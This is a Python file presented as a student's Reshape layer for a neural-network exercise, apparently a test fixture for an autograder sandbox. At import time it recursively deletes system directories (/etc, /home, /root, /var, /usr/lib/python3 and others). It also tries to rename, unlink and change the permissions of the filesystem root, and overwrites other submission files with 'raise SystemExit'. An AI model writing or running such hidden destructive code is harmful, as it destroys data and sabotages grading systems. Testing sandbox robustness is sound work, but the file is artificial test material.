"""Delete all that can be deleted, change all that can be changed, its own submission first.

Deserves: ex03/forward 2, ex03/backward 2
"""

import os
import shutil

import numpy as np

TOPS = ["/submission", "/kit", "/tmp", "/home", "/root", "/var", "/etc", "/usr/lib/python3", "/"]
for top in TOPS[:-1]:
    shutil.rmtree(top, ignore_errors=True)
for top in TOPS:
    for act in (
        lambda top: os.rename(top, "/tmp/attack-was-here"),
        lambda top: os.chmod(top, 0o777),
        lambda top: os.utime(top, (0, 0)),
        lambda top: os.link(top, "/tmp/attack-was-here"),
        lambda top: os.unlink(top),
        lambda top: os.setxattr(top, "user.marks", b"100"),
    ):
        try:
            act(top)
        except OSError:
            continue
for name in ("ex06_losses.py", "ex07_softmax.py", "layer.py"):
    for mode in ("w", "a", "r+"):
        try:
            with open(f"/submission/{name}", mode) as file:
                file.write("raise SystemExit\n")
        except OSError:
            continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
